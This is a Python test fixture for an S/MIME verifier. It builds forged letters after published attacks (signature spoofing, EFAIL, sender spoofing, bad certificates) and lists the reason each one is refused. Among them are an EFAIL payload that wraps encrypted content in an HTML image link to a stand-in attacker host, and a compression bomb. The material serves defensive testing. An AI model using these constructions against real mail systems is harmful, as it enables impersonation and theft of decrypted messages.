"""Letters that want to be believed, each by a published trick; none may be believed as Alice's.

After "Johnny, you are fired" (USENIX Security 2019), EFAIL (2018), espoofer (2020), and what RFC
5652, 8550, 8551 and 9788 warn of. Mallory has a good certificate of the same authority, in her own
name.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from functools import cache

from cryptography import x509
from cryptography.x509.oid import ExtendedKeyUsageOID, ObjectIdentifier

from store.model.trust import Reason
from sync.smime.ber import set_of
from sync.smime.keys import SoftwareKey
from sync.smime.sign import sign
from sync.smime.wrap import Signing
from tests.unit.smime.people import files, laid_down, openssl
from tests.unit.smime.test_hostile import compressed
from tests.unit.smime.test_letters import letter, made, p7m, to
from tests.unit.smime.test_verifying import rebuilt
from tests.unit.trust import pki
from tests.unit.trust.pki import DAY, MIDDLE, NOW, make

ALICE, MALLORY = "alice@cabinet.example", "mallory@cabinet.example"
AT = NOW - 3600
LIE = b"Virez l'argent chez Mallory."
PLAIN = b"Content-Type: text/plain\r\n\r\n" + LIE + b"\r\n"
BARE = (
    b"From: Alice Martin <alice@cabinet.example>\r\nTo: labo@biologie.example\r\nSubject: Bilan\r\n"
)
ENTITY = b"Content-Type: text/plain\r\n\r\nGlycemie : 1,05 g/L.\r\n"
Made = Callable[[], bytes]


@cache
def holder(common: str = "Dr Alice Martin", **changes: object) -> SoftwareKey:
    """Somebody whose certificate says exactly that; by the intermediate authority."""
    issuer = changes.pop("issuer", MIDDLE)
    found = make(pki.person(common, **changes), issuer)  # type: ignore[arg-type]
    chain = () if issuer is None else (issuer.der,)
    return SoftwareKey(found.der, chain, found.key)


def mallory(**changes: object) -> SoftwareKey:
    return holder("Mallory", addresses=(MALLORY,), **changes)


def by(who: SoftwareKey, octets: bytes = b"", **given: object) -> bytes:
    """A whole letter signed by somebody; header fields protected."""
    at = given.pop("at", AT)
    signing = Signing(signers=(who,), at=at, boundary="s0", **given)  # type: ignore[arg-type]
    return made(octets or letter(), signing=signing)


@cache
def signed() -> bytes:
    return by(holder())


def cms(who: SoftwareKey, content: bytes, *, detached: bool = True, digest: str = "") -> bytes:
    return b"".join(sign([content], [who], signing_time=AT, detached=detached, digest=digest))


def multipart(head: bytes, content: bytes, signature: bytes, name: str = "smime.p7s") -> bytes:
    """multipart/signed put together by hand; nothing of the header is protected."""
    return (
        head
        + b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="b"'
        + b"\r\n\r\n--b\r\n"
        + content
        + b"\r\n--b\r\n"
        + p7m(signature, "application/pkcs7-signature", name)
        + b"\r\n--b--\r\n"
    )


def mixed(*parts: bytes, kind: str = "mixed", head: bytes = BARE) -> bytes:
    top = f'Content-Type: multipart/{kind}; boundary="dehors"\r\n\r\n'.encode()
    body = b"".join(b"--dehors\r\n" + each + b"\r\n" for each in parts)
    return head + top + body + b"--dehors--\r\n"


def inner(octets: bytes) -> bytes:
    """The signed or sealed entity of a letter, without the letter's header."""
    return octets[octets.index(b"Content-Type: ") :]


def rfc822(octets: bytes) -> bytes:
    return b"Content-Type: message/rfc822\r\n\r\n" + octets


def said_from(value: bytes, who: SoftwareKey | None = None) -> bytes:
    """Mallory's letter, rightly signed by her, under this From inside and outside."""
    octets = letter().replace(b"From: Alice Martin <alice@cabinet.example>", b"From: " + value)
    assert value in octets
    return by(who or mallory(), octets)


def outside(value: bytes) -> bytes:
    """Alice's letter with another From outside."""
    return signed().replace(b"From: Alice Martin <alice@cabinet.example>", b"From: " + value, 1)


def certified(**changes: object) -> Made:
    """A letter in Alice's name, by a certificate with something wrong."""
    return lambda: by(holder(**changes))


def without_signers(octets: bytes) -> bytes:
    return rebuilt(octets, lambda fields: [*fields[:-1], set_of([])])


def two_signers_one_bad() -> bytes:
    both = b"".join(sign([ENTITY], [holder(), mallory()], signing_time=AT, detached=True))
    bad = bytearray(both)
    bad[-5] ^= 1
    return multipart(BARE, ENTITY, bytes(bad))


def sealed(octets: bytes = b"", *, cbc: bool = False) -> bytes:
    return made(octets or letter(), readers=to("rsa", **({"capabilities": None} if cbc else {})))


def flipped(octets: bytes, at: int) -> bytes:
    """A sealed letter with one octet of its ciphertext changed, counted from the end."""
    head, _, body = octets.partition(b"\r\n\r\n")
    raw = bytearray(base64.b64decode(body))
    raw[-at] ^= 1
    return head + b"\r\n\r\n" + base64.encodebytes(bytes(raw))


def again(octets: bytes, times: int) -> bytes:
    for _ in range(times):
        octets = sealed(octets)
    return octets


def self_signed() -> bytes:
    return by(holder(issuer=None))


def by_a_person_as_authority() -> bytes:
    her = make(pki.person("Mallory", addresses=(MALLORY,)), MIDDLE)
    forged = make(pki.person(), her)
    return by(SoftwareKey(forged.der, (her.der, MIDDLE.der), forged.key))


def other_authority(name: str) -> SoftwareKey:
    """Of an authority of Mallory's; under the name of ours when it is the same."""
    root = make(pki.authority(name, key=pki.ec_key("her own")))
    found = make(pki.person(), root)
    return SoftwareKey(found.der, (root.der,), found.key)


def hp_lie() -> bytes:
    """What is signed says that another From was outside."""
    octets = letter().replace(b"Subject:", b"HP-Outer: From: alice@cabinet.example\r\nSubject:", 1)
    return by(mallory(), octets.replace(b"alice@cabinet.example", MALLORY.encode(), 1))


def phony_header() -> bytes:
    """A header that says it is protected, in a part below what Mallory signed."""
    part = b'Content-Type: text/plain; hp="clear"\r\n' + BARE + b"\r\n" + LIE + b"\r\n"
    return multipart(BARE, mixed(part, head=b""), cms(mallory(), mixed(part, head=b"")))


def nested_rfc822(depth: int) -> bytes:
    octets = signed()
    for _ in range(depth):
        octets = rfc822(octets)
    return BARE + octets


UNKNOWN = x509.UnrecognizedExtension(ObjectIdentifier("1.2.3.4.5"), b"\x05\x00")
REVOKED = holder("Dr Alice Martin", serial=77)

STRUCTURE: dict[str, Made] = {
    "content changed": lambda: signed().replace(b"1,05 g/L", b"9,05 g/L"),
    "another content inside the signature": lambda: multipart(
        BARE, PLAIN, cms(holder(), ENTITY, detached=False)
    ),
    "the same content inside and outside": lambda: multipart(
        BARE, ENTITY, cms(holder(), ENTITY, detached=False)
    ),
    "an opaque signature without its content": lambda: (
        BARE + p7m(cms(holder(), ENTITY), "application/pkcs7-mime")
    ),
    "no signer infos": lambda: multipart(BARE, ENTITY, without_signers(cms(holder(), ENTITY))),
    "no signer infos, opaque": lambda: (
        BARE + p7m(without_signers(cms(holder(), ENTITY, detached=False)), "application/pkcs7-mime")
    ),
    "the signature of another letter": lambda: multipart(BARE, PLAIN, cms(holder(), ENTITY)),
    "text before what is signed": lambda: mixed(PLAIN, inner(signed())),
    "text after what is signed": lambda: mixed(inner(signed()), PLAIN),
    "signed among alternatives": lambda: mixed(PLAIN, inner(signed()), kind="alternative"),
    "signed beside a related part": lambda: mixed(PLAIN, inner(signed()), kind="related"),
    "signed in a forwarded letter": lambda: BARE + rfc822(signed()),
    "signed in a forwarded letter beside text": lambda: mixed(PLAIN, rfc822(signed())),
    "forwarded twenty times": lambda: nested_rfc822(20),
    "her letter within Mallory's": lambda: by(mallory(), mixed(PLAIN, rfc822(signed()))),
    "her signature taken off": lambda: signed().rpartition(b"\r\n--=_s0\r\n")[0] + b"\r\n--=_s0--",
    "a third part": lambda: signed().replace(
        b"\r\n--=_s0--", b"\r\n--=_s0\r\n" + PLAIN + b"\r\n--=_s0--"
    ),
    "the signature first": lambda: multipart(BARE, ENTITY, cms(holder(), ENTITY)).replace(
        b"--b\r\n" + ENTITY, b"--b\r\n" + p7m(b"", "application/pkcs7-signature")
    ),
    "a boundary said twice": lambda: (
        signed().replace(b'boundary="=_s0"', b'boundary="=_s1"; boundary="=_s0"', 1)
        + b"--=_s1\r\n"
        + PLAIN
        + b"--=_s1--\r\n"
    ),
    "a type said twice": lambda: mixed(PLAIN, inner(signed())).replace(
        b"Content-Type: multipart/mixed", b"Content-Type: multipart/signed\r\nContent-Type:"
    ),
    "sealed letter in another": lambda: mixed(PLAIN, inner(sealed(signed()))),
    "two signers, one false": two_signers_one_bad,
    "an OpenPGP twin": lambda: (
        BARE
        + b"Content-Type: text/plain\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nBonjour\r\n"
    ),
    "a drawing of the line": lambda: (
        BARE
        + "Content-Type: text/plain; charset=utf-8\r\n\r\n"
        "✓ signée par « Dr Alice Martin » (alice@cabinet.example)\r\n".encode()
    ),
    "sealed twice": lambda: again(signed(), 2),
    "sealed seven times": lambda: again(signed(), 7),
    "a compressed bomb": lambda: (
        BARE + p7m(compressed(zlib.compress(bytes(210 * 1024 * 1024), 9)), "application/pkcs7-mime")
    ),
}
SENDER: dict[str, Made] = {
    "two From outside, hers first": lambda: outside(
        b"alice@cabinet.example\r\nFrom: mallory@cabinet.example"
    ),
    "two From outside, hers last": lambda: outside(
        b"mallory@cabinet.example\r\nFrom: alice@cabinet.example"
    ),
    "two From, signed by Mallory": lambda: said_from(
        b"mallory@cabinet.example\r\nFrom: alice@cabinet.example"
    ),
    "two addresses in From": lambda: said_from(b"alice@cabinet.example, mallory@cabinet.example"),
    "Mallory signs in her name": lambda: by(mallory()),
    "her From outside, Mallory's inside": lambda: said_from(b"mallory@cabinet.example").replace(
        b"From: mallory@cabinet.example", b"From: alice@cabinet.example", 1
    ),
    "another From outside": lambda: outside(b"mallory@cabinet.example"),
    "no From outside": lambda: outside(b"\r\nX-Other: x"),
    "a quoted local part": lambda: said_from(b'"alice@cabinet.example"@cabinet.example'),
    "a null octet": lambda: said_from(b"alice@cabinet.example\0@cabinet.example"),
    "letters that look alike": lambda: said_from("аlice@cabinet.example".encode()),
    "a certificate in other case": certified(addresses=("Alice@cabinet.example",)),
    "a certificate of a lower domain": certified(addresses=("alice@x.cabinet.example",)),
    "a certificate of a longer domain": certified(
        addresses=("alice@cabinet.example.evil.example",)
    ),
    "an address in the distinguished name": certified(
        subject=pki.name("Dr Alice Martin", email=ALICE), addresses=()
    ),
    "a header that says it is protected": phony_header,
}
MALLORYS: dict[str, Made] = {
    "her address as a name": lambda: said_from(
        b'"alice@cabinet.example" <mallory@cabinet.example>'
    ),
    "her name": lambda: said_from(b"Dr Alice Martin <mallory@cabinet.example>"),
    "her address in a comment": lambda: said_from(
        b"mallory@cabinet.example (alice@cabinet.example)"
    ),
    "her address in a comment before": lambda: said_from(
        b"(alice@cabinet.example) mallory@cabinet.example"
    ),
    "her address in an encoded word": lambda: said_from(
        b"=?utf-8?q?alice=40cabinet=2Eexample=3E?= <mallory@cabinet.example>"
    ),
    "her address in an encoded word of another charset": lambda: said_from(
        b"=?utf-7?q?alice+AEA-cabinet.example?= <mallory@cabinet.example>"
    ),
    "a route through her domain": lambda: said_from(
        b"<@cabinet.example,@alice.example:mallory@cabinet.example>"
    ),
    "a group in From": lambda: said_from(b"alice@cabinet.example:mallory@cabinet.example;"),
    "a folded From": lambda: said_from(b"alice\r\n @cabinet.example\r\n <mallory@cabinet.example>"),
    "her name in a Sender": lambda: said_from(
        b"mallory@cabinet.example\r\nSender: alice@cabinet.example"
    ),
    "what was outside, told wrongly": hp_lie,
    "a name that turns around": lambda: said_from(
        MALLORY.encode(), holder("Mallory \u202ecilA rD", addresses=(MALLORY,))
    ),
    "a name with our marks": lambda: said_from(
        MALLORY.encode(), holder("Mallory » · ✓ signée par « Dr Alice Martin", addresses=(MALLORY,))
    ),
    "a name as long as the line": lambda: said_from(
        MALLORY.encode(), holder("Mallory" + "x" * 57, addresses=(MALLORY,))
    ),
}
"""Rightly signed by Mallory: proven, and by nobody else than her."""
HONEST: dict[str, Made] = {
    "words before the first part": lambda: signed().replace(
        b"\r\n\r\n--=_s0", b"\r\n\r\n" + LIE + b"\r\n--=_s0", 1
    ),
    "words after the last part": lambda: signed() + LIE,
    "another subject outside": lambda: signed().replace(b"Subject: ", b"Subject: " + LIE + b" ", 1),
    "another date and recipient outside": lambda: signed().replace(
        b"To: labo@biologie.example", b"To: " + MALLORY.encode(), 1
    ),
}
"""Alice's, with Mallory's words put where nobody is to see them."""
CERTIFICATE: dict[str, Made] = {
    "SHA-1": lambda: multipart(BARE, ENTITY, sha1_signature()),
    "a short RSA key": certified(key=pki.rsa_key(1024)),
    "expired": certified(until_at=NOW - DAY),
    "not yet valid": certified(from_at=NOW + DAY),
    "for servers": certified(purposes=(ExtendedKeyUsageOID.SERVER_AUTH,)),
    "for anything": certified(purposes=(ExtendedKeyUsageOID.ANY_EXTENDED_KEY_USAGE,)),
    "for sealing only": lambda: multipart(BARE, ENTITY, unusable_signature()),
    "an authority's own": certified(ca=True),
    "signed by itself": self_signed,
    "of another authority": lambda: by(other_authority("Autre")),
    "of an authority of the same name": lambda: by(other_authority("Racine")),
    "by a person as an authority": by_a_person_as_authority,
    "an unknown critical extension": certified(extra=((UNKNOWN, True),)),
    "revoked": lambda: by(REVOKED),
    "signed tomorrow": lambda: by(holder(), at=NOW + DAY),
    "signed before it was valid": lambda: by(holder(), at=NOW - 200 * DAY),
}
EFAIL: dict[str, Made] = {
    "parts around a sealed one": lambda: mixed(
        b'Content-Type: text/html\r\n\r\n<img src="http://mallory.example/',
        inner(sealed()),
        b'Content-Type: text/html\r\n\r\n">',
    ),
    "a sealed attachment": lambda: mixed(PLAIN, inner(sealed(cbc=True))),
    "a sealed letter forwarded": lambda: mixed(PLAIN, rfc822(sealed())),
    "a changed block": lambda: flipped(sealed(cbc=True), 200),
    "a changed last block": lambda: flipped(sealed(cbc=True), 20),
    "a changed tag": lambda: flipped(sealed(), 1),
    "changed octets under a tag": lambda: flipped(sealed(), 100),
}


def by_openssl(certificate: str, key: str, *options: str) -> bytes:
    """What our own signer refuses to make. Without attributes, for it signs by its own clock."""
    how = ("-sign", "-binary", "-noattr", "-outform", "DER", *options)
    return openssl(*how, "-signer", certificate, "-inkey", key, "-in", laid_down(ENTITY))


def sha1_signature() -> bytes:
    """By the digest nobody should use."""
    return by_openssl(*files("rsa"), "-md", "sha1")


def unusable_signature() -> bytes:
    """By a key that is not made for signing."""
    found = make(pki.person("Dr Alice Martin", usage=pki.usage("key_agreement")), MIDDLE)
    chain = ("-certfile", laid_down(MIDDLE.pem))
    return by_openssl(laid_down(found.pem), laid_down(found.key_pem), *chain)


ATTACKS = STRUCTURE | SENDER | CERTIFICATE | EFAIL
OWN_REASON = {
    "SHA-1": Reason.WEAK_DIGEST,
    "a short RSA key": Reason.SHORT_KEY,
    "expired": Reason.EXPIRED,
    "not yet valid": Reason.NOT_YET_VALID,
    "for servers": Reason.NOT_FOR_MAIL,
    "for anything": Reason.NOT_FOR_MAIL,
    "for sealing only": Reason.WRONG_USAGE,
    "an authority's own": Reason.IS_AUTHORITY,
    "signed by itself": Reason.NO_ANCHOR,
    "of another authority": Reason.NO_ANCHOR,
    "of an authority of the same name": Reason.NO_ANCHOR,
    "by a person as an authority": Reason.BAD_ISSUER,
    "an unknown critical extension": Reason.UNKNOWN_CRITICAL,
    "revoked": Reason.REVOKED,
    "signed tomorrow": Reason.SIGNED_LATER,
    "signed before it was valid": Reason.NOT_VALID_THEN,
    "content changed": Reason.TAMPERED,
    "another content inside the signature": Reason.TAMPERED,
    "the signature of another letter": Reason.TAMPERED,
    "two signers, one false": Reason.TAMPERED,
    "the same content inside and outside": Reason.CONTENT_TWICE,
    "an opaque signature without its content": Reason.CONTENT_TWICE,
    "no signer infos": Reason.NO_SIGNER,
    "no signer infos, opaque": Reason.NO_SIGNER,
    "her signature taken off": Reason.NO_SIGNER,
    "text before what is signed": Reason.PART_ONLY,
    "text after what is signed": Reason.PART_ONLY,
    "signed in a forwarded letter": Reason.PART_ONLY,
    "a third part": Reason.PART_ONLY,
    "sealed twice": Reason.PART_ONLY,
    "Mallory signs in her name": Reason.NOT_NAMED,
    "letters that look alike": Reason.NOT_NAMED,
    "a certificate in other case": Reason.NOT_NAMED,
    "an address in the distinguished name": Reason.NAMED_WEAKLY,
    "two From outside, hers first": Reason.FROM_NOT_ONE,
    "two From outside, hers last": Reason.FROM_NOT_ONE,
    "two From, signed by Mallory": Reason.FROM_NOT_ONE,
    "two addresses in From": Reason.FROM_NOT_ONE,
    "another From outside": Reason.FROM_DIFFERS,
    "her From outside, Mallory's inside": Reason.FROM_DIFFERS,
    "a changed tag": Reason.STAYS_SEALED,
}
"""What each is refused for, where there is one thing to say."""
